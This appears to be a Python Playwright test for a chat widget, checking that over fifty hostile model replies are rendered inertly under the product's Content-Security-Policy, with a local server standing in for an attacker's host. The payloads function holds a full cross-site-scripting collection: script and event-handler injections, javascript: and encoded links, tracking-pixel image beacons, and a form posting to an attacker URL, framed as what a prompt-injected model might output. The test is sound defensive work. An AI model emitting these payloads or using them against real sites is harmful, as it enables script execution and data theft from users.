"""Hostile model output, streamed through the whole stack and drawn by the widget in Chromium.

Each payload is what a compromised or prompt-injected model might answer. The page runs under the
product's Content-Security-Policy; a payload succeeds if it runs script (it would set
`window.pwned` or open a dialog), loads anything (every request the page makes is recorded; the
"attacker" host is a real local HTTP server that counts hits), or leaves an active element
(script, img, iframe, object, embed, form, svg, style, link, meta, base) or an `on*` attribute or
an unsafe link in the conversation.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import start_server
from tests.browser.widget import ask, open_chat, wait_reply

pytestmark = pytest.mark.slow


class Attacker:
    """A local HTTP server standing in for the attacker's host: counts every request it gets."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()


def payloads(evil: str) -> list[str]:
    js = "window.pwned=1"
    return [
        f"<script>{js}</script>",
        f"<SCRIPT SRC={evil}/x.js></SCRIPT>",
        f'<img src=x onerror="{js}">',
        f"<img src={evil}/img.png>",
        f'<svg onload="{js}"></svg>',
        f"<svg><script>{js}</script></svg>",
        f'<iframe src="javascript:{js}"></iframe>',
        f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        f'<object data="{evil}/o.swf"></object>',
        f'<embed src="{evil}/e.swf">',
        f'<body onload="{js}">',
        f'<div onmouseover="{js}">hover me</div>',
        f'<a href="javascript:{js}">click</a>',
        f'<a href="{evil}/phish" onclick="{js}">offer</a>',
        f'<form action="{evil}/steal"><input name=p><button>go</button></form>',
        f'<input autofocus onfocus="{js}">',
        f'<details open ontoggle="{js}">x</details>',
        f'<video><source onerror="{js}"></video>',
        f'<audio src=x onerror="{js}">',
        f'<link rel=stylesheet href="{evil}/s.css">',
        f'<style>@import "{evil}/i.css"; body{{background:url({evil}/bg.png)}}</style>',
        f'<meta http-equiv="refresh" content="0;url={evil}/r">',
        f'<base href="{evil}/">',
        f"<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        f'<noscript><p title="</noscript><img src=x onerror={js}>">',
        f"[click](javascript:{js})",
        f"[click](JaVaScRiPt:{js})",
        f"[click](java\tscript:{js})",
        f"[click](&#106;avascript:{js})",
        f"[click](javascript&colon;{js})",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        f"[click](//{evil.split('//')[1]}/proto-relative)",
        f"[click]( javascript:{js})",
        f"![pixel]({evil}/pixel.png)",
        f'![pixel]({evil}/pixel2.png "title")',
        f"![x](javascript:{js})",
        f"[![img]({evil}/nested.png)]({evil}/n)",
        f"<{evil}/autolink>",
        f"[ref][1]\n\n[1]: javascript:{js}",
        f"`<img src=x onerror={js}>` and ```\n<script>{js}</script>\n```",
        f"**<img src=x onerror={js}>**",
        f"*<svg/onload={js}>*",
        f"# <script>{js}</script>",
        f"- <img src=x onerror={js}>\n- [x](javascript:{js})",
        f"1. <iframe src={evil}/f></iframe>",
        f"&lt;script&gt;{js}&lt;/script&gt;",
        f"&#60;img src=x onerror={js}&#62;",
        f"\\u003cscript\\u003e{js}\\u003c/script\\u003e",
        f"<scr<script>ipt>{js}</scr</script>ipt>",
        f'"><img src=x onerror={js}>',
        f"'><svg onload={js}>",
        f"</div><img src=x onerror={js}><div>",
        f'<!--<img src="--><img src=x onerror={js}//">',
        f'<a href="{evil}/x" target="_self">same tab</a>',
        f'[tab](https://example.com/" onclick="{js})',
    ]


@pytest.fixture(scope="module")
def attacker():
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, browser):
    server = start_server(
        tmp_path_factory.mktemp("hostile"),
        SCRIPTED_TOKEN_DELAY="0",
        CHAT_QUOTA_ANON_MESSAGES="0",
        CHAT_QUOTA_ANON_INPUT_TOKENS="0",
        CHAT_QUOTA_ANON_OUTPUT_TOKENS="0",
    )
    yield server
    server.stop()


ACTIVE = (
    "script, img, iframe, object, embed, form, input, svg, math, style, link, meta, base, "
    "video, audio, details, body"
)


def test_fifty_hostile_outputs_run_no_script_and_load_nothing(browser, hostile_server, attacker):
    context = browser.new_context(base_url=hostile_server.url)
    page = context.new_page()
    page.set_default_timeout(15_000)
    requests, dialogs, violations = [], [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on(
        "console", lambda m: violations.append(m.text) if "Content Security" in m.text else None
    )
    page.goto("/")
    open_chat(page)
    cases = payloads(attacker.origin)
    assert len(cases) >= 50

    for i, payload in enumerate(cases):
        ask(page, f"say: {payload}")
        expect(page.locator(".cc-bot:not(.cc-typing)")).to_have_count(i + 1)
        reply = wait_reply(page)
        body = reply.locator(".cc-body")
        assert body.locator(ACTIVE).count() == 0, payload
        handlers = body.evaluate(
            "b => [...b.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
            ".filter(n => n.startsWith('on') || n === 'srcdoc' || n === 'style')"
        )
        assert handlers == [], (payload, handlers)
        for href in body.locator("a").evaluate_all("as => as.map(a => a.getAttribute('href'))"):
            assert href.startswith(("http://", "https://", "/", "mailto:")), (payload, href)
            assert not href.startswith("//"), (payload, href)

    page.wait_for_timeout(500)  # let anything that was going to load or run, do so
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert attacker.hits == [], attacker.hits
    external = [u for u in requests if not u.startswith(hostile_server.url)]
    assert external == [], external
    assert violations == []  # nothing even tried to load or run against the policy
    context.close()
